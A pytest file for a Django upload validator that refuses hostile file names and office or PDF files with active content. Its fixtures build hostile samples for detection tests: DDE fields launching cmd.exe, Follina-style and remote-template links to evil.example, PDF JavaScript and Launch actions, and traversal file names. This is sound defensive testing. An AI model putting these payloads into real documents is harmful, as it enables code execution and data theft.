"""Uploads: no user file name reaches the storage, downloads are attachments with a safe
name, and nothing uploaded is reachable under a URL a web server would serve or execute."""

import html
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfWriter
from weasyprint import HTML

from requests_intake.models import ApplicationRequest, Attachment, AttachmentKind
from requests_intake.services import attachment_upload
from requests_intake.uploads import check_upload
from tests.properties import property_settings
from workflow import demo
from workflow.models import Comment
from workflow.states import State

HOSTILE_NAMES = [
    "../../../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\surat.pdf",
    'surat"; filename="evil.html.pdf',
    "surat\r\nX-Injected: 1.pdf",
    "<script>alert(1)</script>.pdf",
    "Surat Permintaan résumé (final) — Dinas.pdf",
    "berkas.php.pdf",
    "x" * 240 + ".pdf",
    ".htaccess",
    "tanpa-ekstensi",
]
STORED = re.compile(r"^attachments/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|docx|pptx|xlsx|png|jpg)$")
SAFE_DOWNLOAD = re.compile(r'^attachment; filename="[A-Za-z0-9._ -]{1,84}\.pdf"$')


@pytest.fixture
def design(make_request):
    return make_request(State.DESIGN)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_no_user_file_name_reaches_the_storage(design, actors, name):
    attachment = attachment_upload(
        actor=actors["prakom"],
        request_id=design.pk,
        kind=AttachmentKind.PROGRAM_FLOW,
        upload=SimpleUploadedFile(name, demo.sample_pdf()),
    )
    # Only a generated hex name and the extension of the detected type: nothing of the user's.
    assert STORED.match(attachment.file.name), attachment.file.name
    path = Path(attachment.file.path).resolve()
    assert path.is_relative_to(Path(settings.MEDIA_ROOT).resolve())


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_downloads_are_attachments_with_a_safe_name(clients, design, actors, name):
    attachment = attachment_upload(
        actor=actors["prakom"],
        request_id=design.pk,
        kind=AttachmentKind.PROGRAM_FLOW,
        upload=SimpleUploadedFile(name, demo.sample_pdf()),
    )
    response = clients["kasi"].get(attachment.get_absolute_url())
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert SAFE_DOWNLOAD.match(disposition), disposition
    assert "\r" not in disposition and "\n" not in disposition
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == demo.sample_pdf()


def test_the_type_comes_from_the_content_not_the_name(design, actors):
    attachment = attachment_upload(
        actor=actors["prakom"],
        request_id=design.pk,
        kind=AttachmentKind.DATA_STRUCTURE,
        upload=SimpleUploadedFile("struktur.pdf", demo.sample_docx()),
    )
    assert attachment.file.name.endswith(".docx")
    assert attachment.original_name == "struktur.docx"


def test_uploads_are_outside_every_served_folder_and_have_no_url(design, clients):
    media = Path(settings.MEDIA_ROOT).resolve()
    served = [Path(settings.STATIC_ROOT).resolve(), *map(Path, settings.STATICFILES_DIRS)]
    assert not any(media.is_relative_to(folder.resolve()) for folder in served)
    assert settings.MEDIA_URL is None
    attachment = Attachment.objects.filter(request=design).first()
    for prefix in ("/media/", "/static/", "/"):
        response = clients["kasi"].get(prefix + attachment.file.name)
        assert response.status_code == 404


def test_the_production_media_folder_is_not_under_the_static_root():
    """The defaults keep var/media and var/staticfiles apart (the proxy serves only the
    latter)."""
    base = Path(settings.BASE_DIR)
    assert not (base / "var" / "media").is_relative_to(base / "var" / "staticfiles")


# --- active content: office documents and PDFs that act when opened -------------------------

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_R = "http://schemas.microsoft.com/office/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
# An OLE compound file with a VBA project stream, as vbaProject.bin starts.
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
VBA_CFB = CFB + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64
MAIN_PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
MAIN_TYPE = {"docx": DOCX_MAIN, "xlsx": XLSX_MAIN, "pptx": PPTX_MAIN}
MAIN_BODY = {
    "docx": f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>Isi</w:t></w:r></w:p>'
    "</w:body></w:document>",
    "xlsx": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    "pptx": '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
}


def rels(*relationships: tuple[str, str, str | None]) -> str:
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(relationships, start=10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    )


def package(
    kind: str = "docx",
    *,
    parts: dict[str, bytes | str] | None = None,
    main_rels: tuple = (),
    overrides: dict[str, str] | None = None,
    main_type: str | None = None,
    main_body: str | bytes | None = None,
) -> bytes:
    """An office package as the programs write it: content types, the package relationship
    to the main part, the main part's relationships, and any extra ``parts``."""
    main = MAIN_PART[kind]
    folder, leaf = main.rsplit("/", 1)
    types = {f"/{main}": main_type or MAIN_TYPE[kind], **(overrides or {})}
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        + "".join(f'<Override PartName="{n}" ContentType="{t}"/>' for n, t in types.items())
        + "</Types>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", rels((f"{R}/officeDocument", main, None)))
        archive.writestr(main, main_body or MAIN_BODY[kind])
        archive.writestr(f"{folder}/_rels/{leaf}.rels", rels(*main_rels))
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def chart_workbook(**kwargs) -> bytes:
    return package("xlsx", **kwargs)


TABLE_OF_CONTENTS = (
    f'<w:document xmlns:w="{W_NS}"><w:body><w:p>'
    # a field inside another one's code, after its name (as IF and MERGEFIELD are used)
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> = 1 "a" "b"</w:instrText>'
    '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" \\h </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Daftar isi</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:fldSimple w:instr=" PAGE "/></w:p></w:body></w:document>'
)

BENIGN_OFFICE = {
    "docx": package(),
    "xlsx": package("xlsx"),
    "pptx": package("pptx"),
    "docx with web and mail links, an image and a chart": package(
        parts={
            "word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 32,
            "word/charts/chart1.xml": "<c:chartSpace xmlns:c='urn:c'/>",
            "word/charts/_rels/chart1.xml.rels": rels(
                (f"{R}/package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", None)
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart_workbook(),
        },
        main_rels=(
            (f"{R}/hyperlink", "https://diskominfo.example.go.id/sop", "External"),
            (f"{R}/hyperlink", "mailto:helpdesk@example.go.id", "External"),
            (f"{R}/image", "media/image1.png", None),
            (f"{R}/chart", "charts/chart1.xml", None),
        ),
    ),
    "docx with a table of contents and page numbers": package(main_body=TABLE_OF_CONTENTS),
    "demo docx": demo.sample_docx(),
    "demo pptx": demo.sample_pptx(),
}

MACRO = "Dokumen Office ini berisi makro"
OLE = "Dokumen Office ini berisi objek OLE tertanam"
ACTIVEX = "Dokumen Office ini berisi kontrol ActiveX"
EXTERNAL = "Dokumen Office ini mengambil isi dari luar berkas"
DDE = "Dokumen Office ini berisi kolom DDE"
OFFICE_UNREADABLE = "Dokumen Office ini rusak, terenkripsi atau terlalu rumit"

DANGEROUS_OFFICE = {
    "vbaProject.bin": (
        package(
            parts={"word/vbaProject.bin": VBA_CFB},
            main_rels=((f"{MS_R}/vbaProject", "vbaProject.bin", None),),
        ),
        [MACRO],
    ),
    "VBA part renamed, declared by its content type only": (
        package(
            parts={"word/settings2.dat": b"not even a compound file"},
            overrides={"/word/settings2.dat": "application/vnd.ms-office.vbaProject"},
        ),
        [MACRO],
    ),
    "VBA part renamed, found by its relationship": (
        package(
            parts={"word/media/image9.png": b"\x89PNG\r\n\x1a\n"},
            main_rels=((f"{MS_R}/vbaProject", "media/image9.png", None),),
        ),
        [MACRO],
    ),
    "VBA part renamed and undeclared, found by its content": (
        package(parts={"word/media/image9.png": VBA_CFB}),
        [MACRO],
    ),
    "macro-enabled workbook renamed .xlsx": (
        package("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        [MACRO],
    ),
    "Excel 4.0 macro sheet": (
        package(
            "xlsx",
            parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='urn:x'/>"},
            overrides={"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        [MACRO],
    ),
    "OLE object": (
        package(
            parts={"word/embeddings/oleObject1.bin": CFB},
            main_rels=((f"{R}/oleObject", "embeddings/oleObject1.bin", None),),
            overrides={
                "/word/embeddings/oleObject1.bin": (
                    "application/vnd.openxmlformats-officedocument.oleObject"
                )
            },
        ),
        [OLE],
    ),
    "file packaged into the document": (
        package(parts={"word/embeddings/Faktur.pdf.exe": b"MZ\x90\x00"}),
        [OLE],
    ),
    "compound file hidden as an image": (
        package("pptx", parts={"ppt/media/image1.png": CFB}),
        [OLE],
    ),
    "ActiveX control": (
        package(
            parts={
                "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:ax'/>",
                "word/activeX/activeX1.bin": CFB,
            },
            main_rels=((f"{R}/control", "activeX/activeX1.xml", None),),
            overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        ),
        [OLE, ACTIVEX],
    ),
    "ActiveX control in a presentation": (
        package(
            "pptx",
            parts={"ppt/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:ax'/>"},
        ),
        [ACTIVEX],
    ),
    "remote template": (
        package(
            parts={
                "word/settings.xml": f'<w:settings xmlns:w="{W_NS}"/>',
                "word/_rels/settings.xml.rels": rels(
                    (f"{R}/attachedTemplate", "http://evil.example/t.dotm", "External")
                ),
            },
        ),
        [EXTERNAL],
    ),
    "remote template without TargetMode": (
        package(
            parts={
                "word/_rels/settings.xml.rels": rels(
                    (f"{R}/attachedTemplate", "https://evil.example/t.dotm", None)
                ),
            },
        ),
        [EXTERNAL],
    ),
    "external image": (
        package(main_rels=((f"{R}/image", "http://evil.example/pixel.png", "External"),)),
        [EXTERNAL],
    ),
    "external frame": (
        package(main_rels=((f"{R}/frame", "\\\\evil.example\\share\\f.html", "External"),)),
        [EXTERNAL],
    ),
    "link to a file share": (
        package(main_rels=((f"{R}/hyperlink", "file://evil.example/share/a.exe", "External"),)),
        [EXTERNAL],
    ),
    "link to a program (ms-msdt)": (
        package(main_rels=((f"{R}/hyperlink", "ms-msdt:/id PCWDiagnostic", "External"),)),
        [EXTERNAL],
    ),
    "remote OLE object (Follina)": (
        package(
            main_rels=(
                (f"{R}/oleObject", "mhtml:http://evil.example/x.html!x-usc:http://e", "External"),
            )
        ),
        [OLE, EXTERNAL],
    ),
    "external relationship in a slide": (
        package(
            "pptx",
            parts={
                "ppt/slides/_rels/slide1.xml.rels": rels(
                    (f"{R}/video", "http://evil.example/v.mp4", "External")
                )
            },
        ),
        [EXTERNAL],
    ),
    "link to another workbook": (
        package(
            "xlsx",
            parts={"xl/externalLinks/externalLink1.xml": "<externalLink xmlns='urn:x'/>"},
            main_rels=((f"{R}/externalLink", "externalLinks/externalLink1.xml", None),),
        ),
        [EXTERNAL],
    ),
    "macro inside a chart's embedded workbook": (
        package(
            parts={
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart_workbook(
                    parts={"xl/vbaProject.bin": VBA_CFB}
                )
            }
        ),
        [MACRO],
    ),
    "DDE field": (
        package(
            main_body=f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:fldSimple w:instr='
            '" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/>'
            "</w:p></w:body></w:document>"
        ),
        [DDE],
    ),
    "DDE field split over runs": (
        package(
            main_body=f'<w:document xmlns:w="{W_NS}"><w:body><w:p>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText> DD</w:instrText></w:r>"
            '<w:r><w:instrText>E cmd "/c calc" x</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            "</w:p></w:body></w:document>"
        ),
        [DDE],
    ),
    "DDE field named by a nested QUOTE field": (
        package(
            main_body=f'<w:document xmlns:w="{W_NS}"><w:body><w:p>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            '<w:r><w:instrText> c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            "</w:p></w:body></w:document>"
        ),
        [DDE],
    ),
    "DDE field in a part written in UTF-16": (
        package(
            main_body=(
                '<?xml version="1.0" encoding="UTF-16"?>'
                f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:fldSimple w:instr='
                '" DDE cmd &quot;/c calc&quot; x"/></w:p></w:body></w:document>'
            ).encode("utf-16")
        ),
        [DDE],
    ),
    "picture fetched from a web address by a field": (
        package(
            main_body=f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:fldSimple w:instr='
            "' INCLUDEPICTURE \"http://evil.example/p.png\" \\d '/></w:p></w:body></w:document>"
        ),
        [EXTERNAL],
    ),
    "workbook with a data connection": (
        package(
            "xlsx",
            parts={"xl/connections.xml": "<connections xmlns='urn:x'/>"},
            main_rels=((f"{R}/connections", "connections.xml", None),),
        ),
        [EXTERNAL],
    ),
    "relationships with a DTD": (
        package(
            parts={
                "word/_rels/settings.xml.rels": '<?xml version="1.0"?><!DOCTYPE r ['
                '<!ENTITY a "aaaaaaaaaa">]><Relationships xmlns="http://schemas.openxml'
                'formats.org/package/2006/relationships">&a;</Relationships>'
            }
        ),
        [OFFICE_UNREADABLE],
    ),
}


# PDFs are built object by object; objects listed in ``packed`` go into a compressed object
# stream, with a cross-reference stream as PDF 1.5 writes it.
PAGE_OBJECTS = {
    1: b"<< /Type /Catalog /Pages 2 0 R %(catalog)s>>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> %(page)s>>",
    4: b"<< /Length 31 >>\nstream\nBT /F1 14 Tf 72 760 Td (x) Tj ET\nendstream",
    5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
}


def pdf(catalog: bytes = b"", page: bytes = b"", extra=(), packed=()) -> bytes:
    objects = dict(PAGE_OBJECTS)
    objects[1] = objects[1] % {b"catalog": catalog}
    objects[3] = objects[3] % {b"page": page}
    for number, body in enumerate(extra, start=6):
        objects[number] = body
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, tuple[int, int, int]] = {}
    for number, body in objects.items():
        if number not in packed:
            offsets[number] = (1, out.tell(), 0)
            out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    if not packed:
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
        for number in sorted(objects):
            out.write(b"%010d 00000 n \n" % offsets[number][1])
        out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
        out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
        return out.getvalue()
    stream_number = len(objects) + 1
    header, bodies = b"", b""
    for index, number in enumerate(packed):
        header += b"%d %d " % (number, len(bodies))
        bodies += objects[number] + b"\n"
        offsets[number] = (2, stream_number, index)
    data = zlib.compress(header + bodies)
    offsets[stream_number] = (1, out.tell(), 0)
    out.write(
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n"
        % (stream_number, len(packed), len(header), len(data), data)
    )
    xref_number = stream_number + 1
    offsets[xref_number] = (1, out.tell(), 0)
    rows = struct.pack(">BIH", 0, 0, 0xFFFF) + b"".join(
        struct.pack(">BIH", *offsets[n]) for n in range(1, xref_number + 1)
    )
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (xref_number, xref_number + 1, len(rows), rows)
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number][1])
    return out.getvalue()


def encrypted_pdf(user_password: str, algorithm: str = "RC4-128") -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(demo.sample_pdf()))
    writer.encrypt(user_password=user_password, owner_password="pemilik", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PDF_JS = "PDF ini berisi JavaScript"
PDF_OPEN = "PDF ini menjalankan tindakan otomatis saat dibuka (/OpenAction)"
PDF_AA = "PDF ini berisi tindakan otomatis tambahan (/AA)"
PDF_LAUNCH = "PDF ini dapat membuka program atau berkas lain"
PDF_LINK = "PDF ini berisi tautan ke alamat yang bukan web atau e-mail"
PDF_EMBEDDED = "PDF ini berisi berkas tertanam"
PDF_XFA = "PDF ini berisi formulir XFA"
PDF_ENCRYPTED = "PDF ini dikunci dengan kata sandi"
PDF_UNREADABLE = "PDF ini rusak atau terlalu rumit"

DANGEROUS_PDF = {
    "document-level JavaScript": (
        pdf(b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ", extra=[JS_ACTION]),
        [PDF_JS],
    ),
    "JavaScript run on opening": (
        pdf(b"/OpenAction 6 0 R ", extra=[JS_ACTION]),
        [PDF_JS, PDF_OPEN],
    ),
    "web address opened on opening": (
        pdf(b"/OpenAction << /S /URI /URI (http://evil.example/) >> "),
        [PDF_OPEN],
    ),
    "go-to chained to JavaScript on opening": (
        pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >> ", extra=[JS_ACTION]),
        [PDF_JS, PDF_OPEN],
    ),
    "launch action on a link": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>] "
        ),
        [PDF_LAUNCH],
    ),
    "remote go-to": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\a.pdf) /D [0 /Fit] >> >>] "
        ),
        [PDF_LAUNCH],
    ),
    "form sent elsewhere": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>] "
        ),
        [PDF_LAUNCH],
    ),
    "additional actions on a page": (
        pdf(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> "),
        [PDF_AA],
    ),
    "embedded file": (
        pdf(
            b"/Names << /EmbeddedFiles << /Names [(faktur.exe) 6 0 R] >> >> ",
            extra=[
                b"<< /Type /Filespec /F (faktur.exe) /EF << /F 7 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
            ],
        ),
        [PDF_EMBEDDED],
    ),
    "file attachment annotation": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
            b"/FS 6 0 R >>] ",
            extra=[b"<< /Type /Filespec /F (a.exe) >>"],
        ),
        [PDF_EMBEDDED],
    ),
    "names written with #xx escapes": (
        pdf(b"/O#70enAction << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >> "),
        [PDF_JS, PDF_OPEN],
    ),
    "JavaScript inside a compressed object stream": (
        pdf(b"/OpenAction 6 0 R ", extra=[JS_ACTION], packed=(1, 6)),
        [PDF_JS, PDF_OPEN],
    ),
    "escaped names inside a compressed object stream": (
        pdf(
            b"/Names << /E#6DbeddedFiles << /Names [(a) 6 0 R] >> >> ",
            extra=[b"<< /Type /Filespec /F (a.exe) >>"],
            packed=(1, 6),
        ),
        [PDF_EMBEDDED],
    ),
    "XFA form": (
        pdf(
            b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
            extra=[b"<< /Length 0 >>\nstream\n\nendstream"],
        ),
        [PDF_XFA],
    ),
    "link to a file share": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (file://evil.example/share/a.exe) >> >>] "
        ),
        [PDF_LINK],
    ),
    "link to a UNC path": (
        pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /URI /URI (\\\\\\\\evil.example\\\\s\\\\a.exe) >> >>] "
        ),
        [PDF_LINK],
    ),
    "locked with a password": (encrypted_pdf("rahasia"), [PDF_ENCRYPTED]),
    "broken beyond reading": (b"%PDF-1.4\n" + b"0" * 4096, [PDF_UNREADABLE]),
    "too many objects to check in reasonable time": (
        pdf(extra=[b"null"] * 50_000),
        [PDF_UNREADABLE],
    ),
}

BENIGN_PDF = {
    "demo": demo.sample_pdf(),
    "opens at a page (destination)": pdf(b"/OpenAction [3 0 R /XYZ null null 0] "),
    "opens at a page (go-to action)": pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "),
    "web link": pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://diskominfo.example.go.id/) >> >>] "
    ),
    "object streams": pdf(packed=(1, 2, 3, 5)),
    "link without a scheme": pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (www.example.go.id) >> >>] "
    ),
    "owner password only": encrypted_pdf(""),
    "owner password only (AES-256)": encrypted_pdf("", algorithm="AES-256"),
}


def _refusal(response) -> list[str]:
    assert response.status_code == 200
    return response.context["upload_form"].errors.get("file", [])


@pytest.mark.parametrize(
    ("content", "expected"), DANGEROUS_OFFICE.values(), ids=DANGEROUS_OFFICE.keys()
)
def test_office_documents_with_active_content_are_refused_saying_why(
    clients, design, content, expected
):
    response = clients["prakom"].post(
        reverse("workflow:upload", args=[design.pk]),
        {"kind": AttachmentKind.DATA_STRUCTURE, "file": SimpleUploadedFile("s.docx", content)},
    )
    errors = _refusal(response)
    assert [e.split(" ", 5)[:5] for e in errors] == [m.split(" ", 5)[:5] for m in expected]
    for message, error in zip(expected, errors, strict=True):
        assert error.startswith(message)
        assert html.escape(error) in response.content.decode()
    assert not design.attachments.filter(kind=AttachmentKind.DATA_STRUCTURE).exists()


@pytest.mark.parametrize(("content", "expected"), DANGEROUS_PDF.values(), ids=DANGEROUS_PDF.keys())
def test_pdfs_with_active_content_are_refused_saying_why(clients, design, content, expected):
    response = clients["prakom"].post(
        reverse("workflow:upload", args=[design.pk]),
        {"kind": AttachmentKind.PROGRAM_FLOW, "file": SimpleUploadedFile("alur.pdf", content)},
    )
    errors = _refusal(response)
    assert len(errors) == len(expected), errors
    for message, error in zip(expected, errors, strict=True):
        assert error.startswith(message), errors
        assert html.escape(error) in response.content.decode()
    assert not design.attachments.filter(kind=AttachmentKind.PROGRAM_FLOW).exists()


@pytest.mark.parametrize("content", BENIGN_OFFICE.values(), ids=BENIGN_OFFICE.keys())
def test_clean_office_documents_are_accepted(clients, design, content):
    response = clients["prakom"].post(
        reverse("workflow:upload", args=[design.pk]),
        {"kind": AttachmentKind.DATA_STRUCTURE, "file": SimpleUploadedFile("s.docx", content)},
    )
    assert response.status_code == 302, _refusal(response)
    assert design.attachments.get(kind=AttachmentKind.DATA_STRUCTURE).size == len(content)


@pytest.mark.parametrize("content", BENIGN_PDF.values(), ids=BENIGN_PDF.keys())
def test_clean_pdfs_are_accepted(clients, design, content):
    response = clients["prakom"].post(
        reverse("workflow:upload", args=[design.pk]),
        {"kind": AttachmentKind.PROGRAM_FLOW, "file": SimpleUploadedFile("alur.pdf", content)},
    )
    assert response.status_code == 302, _refusal(response)
    assert design.attachments.get(kind=AttachmentKind.PROGRAM_FLOW).size == len(content)


def test_a_pdf_made_by_weasyprint_is_accepted(clients, design):
    content = HTML(string="<h1>Alur program</h1><p>Langkah 1</p>").write_pdf()
    response = clients["prakom"].post(
        reverse("workflow:upload", args=[design.pk]),
        {"kind": AttachmentKind.PROGRAM_FLOW, "file": SimpleUploadedFile("alur.pdf", content)},
    )
    assert response.status_code == 302, _refusal(response)


def test_the_request_letter_with_javascript_is_refused(clients):
    from tests.requests_intake.test_intake_views import form_data

    data = form_data()
    data["letter_file"] = SimpleUploadedFile(
        "surat.pdf", pdf(b"/OpenAction 6 0 R ", extra=[JS_ACTION])
    )
    response = clients["pemohon"].post(reverse("requests_intake:create"), data)
    assert response.status_code == 200
    errors = response.context["form"].errors["letter_file"]
    assert errors[0].startswith(PDF_JS) and errors[1].startswith(PDF_OPEN)
    assert not ApplicationRequest.objects.exists()


def test_a_comment_attachment_with_a_macro_is_refused(clients, design):
    content, _expected = DANGEROUS_OFFICE["vbaProject.bin"]
    response = clients["kasi"].post(
        reverse("workflow:comment_add", args=[design.pk]),
        {"body": "Lihat lampiran", "file": SimpleUploadedFile("catatan.docx", content)},
    )
    assert response.status_code == 200
    assert response.context["comment_form"].errors["file"][0].startswith(MACRO)
    assert not Comment.objects.exists()


SAMPLES = [
    *(content for content, _expected in DANGEROUS_OFFICE.values()),
    *(content for content, _expected in DANGEROUS_PDF.values()),
    *BENIGN_OFFICE.values(),
    *BENIGN_PDF.values(),
]


@st.composite
def damaged(draw) -> bytes:
    """A sample file with bytes overwritten, cut short, or a slice repeated."""
    content = bytearray(draw(st.sampled_from(SAMPLES)))
    for _ in range(draw(st.integers(0, 8))):
        at = draw(st.integers(0, len(content) - 1))
        content[at] = draw(st.integers(0, 255))
    if draw(st.booleans()):
        content = content[: draw(st.integers(1, len(content)))]
    if draw(st.booleans()):
        start = draw(st.integers(0, len(content) - 1))
        content[start:start] = content[start : start + draw(st.integers(1, 64))]
    return bytes(content)


@property_settings(150)
@given(content=damaged())
def test_a_damaged_file_is_accepted_or_refused_with_a_message_never_an_error(content):
    try:
        check_upload(SimpleUploadedFile("berkas", content))
    except ValidationError as exc:
        assert exc.messages and all(message.strip() for message in exc.messages)


def test_an_archive_needing_a_newer_zip_version_is_refused_not_an_error(clients, design):
    content = bytearray(package())
    central = content.index(b"PK\x01\x02")
    content[central + 6 : central + 8] = struct.pack("<H", 64)  # "version needed": 6.4
    response = clients["prakom"].post(
        reverse("workflow:upload", args=[design.pk]),
        {"kind": AttachmentKind.DATA_STRUCTURE, "file": SimpleUploadedFile("s.docx", content)},
    )
    assert _refusal(response) == [
        "Isi berkas bukan jenis yang diizinkan (DOCX, JPG, PDF, PNG, PPTX, XLSX)."
    ]
